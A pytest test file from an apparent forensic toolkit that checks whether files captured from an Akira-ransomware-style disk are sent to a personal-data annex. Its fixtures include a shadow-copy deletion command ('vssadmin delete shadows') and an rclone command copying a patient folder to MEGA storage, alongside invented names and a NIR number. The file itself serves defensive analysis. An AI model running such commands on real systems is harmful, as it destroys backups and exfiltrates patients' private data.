"""What leaves as bytes from a real folder: what tells of a person is for the annex."""

import hashlib
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.capture.lines import line
from toolkit.capture import maker_place
from toolkit.capture.choice import Chosen
from toolkit.custody.case import Case
from toolkit.media.folder import FolderSource

NOISE = random.Random(3).randbytes(4096)  # noqa: S311 - the same bytes each time
CASES: dict[str, tuple[str, bytes, bool]] = {
    "ProgramData/Logos/logos.ini.akira": ("sample_program_file", NOISE, False),
    "ProgramData/Logos/a.ini.akira": ("sample_program_file", NOISE + b"un texte lisible assez long", True),
    "Windows/inf/w.inf.akira": ("sample_windows_file", NOISE + b"; a line of a setup by its maker", False),
    "Windows/inf/x.inf.akira": ("sample_windows_file", NOISE + "préparé pour KEVRIN".encode("cp1252"), True),
    "Program Files/Logos/logos.dll": ("twin", b"MZ" + NOISE + b"(c) Jean Dupont a@b.example", False),
    "Program Files/Logos/other.dll": ("twin", b"MZ" + NOISE + b"\0kevrin\0", True),
    "Program Files/Logos/num.dll": ("twin", b"MZ" + NOISE + b"\0NIR 2 84 05 75 123 456 78\0", True),
    "Program Files/Logos/logos.ini": ("twin", b"[taille]\r\nx=1\r\n", True),
    "Program Files/Logos/modele.docx": ("twin", b"PK\x03\x04" + NOISE, True),
    "Users/Public/svc.exe": ("program", b"MZ" + NOISE, False),
    "Users/Public/nu.bat": ("program", b"vssadmin delete shadows /all /quiet\r\n", False),
    "Users/Public/exfil.bat": ("program", b'rclone copy "C:\\Patients\\Kevrin Odalys" mega:out\r\n', True),
    "Users/Public/rappel.ps1": ("program", "# NIR 284057512345678".encode("utf-16"), True),
}


@pytest.fixture
def case(tmp_path: Path) -> Iterator[Case]:
    held = Case.create(
        tmp_path / "case", source={"label": "disk", "kind": "folder", "size": 0}, language="fr"
    )
    held.write_json("data_roots", ["Patients"])
    lines = [line("Patients/Kevrin Odalys/x.jpg", 1), *(line(path, 2) for path in CASES)]
    list(held.record("scan", iter(lines)))
    yield held
    held.close()


@pytest.mark.parametrize("path", CASES)
def test_what_may_tell_of_a_person_is_for_the_annex(case: Case, tmp_path: Path, path: str) -> None:
    reason, content, annex = CASES[path]
    place = tmp_path / "disk" / path
    place.parent.mkdir(parents=True)
    place.write_bytes(content)
    facts: dict[str, Any] = {"sha256": hashlib.sha256(content).hexdigest()}
    one = Chosen(line(path, 2, volume="", size=len(content), **facts), reason, 1)
    found = maker_place.placed(case, FolderSource("disk", tmp_path / "disk"), one)
    assert (found.prefix, bool(found.facts.get("quotes"))) == (("A", True) if annex else ("P", False))
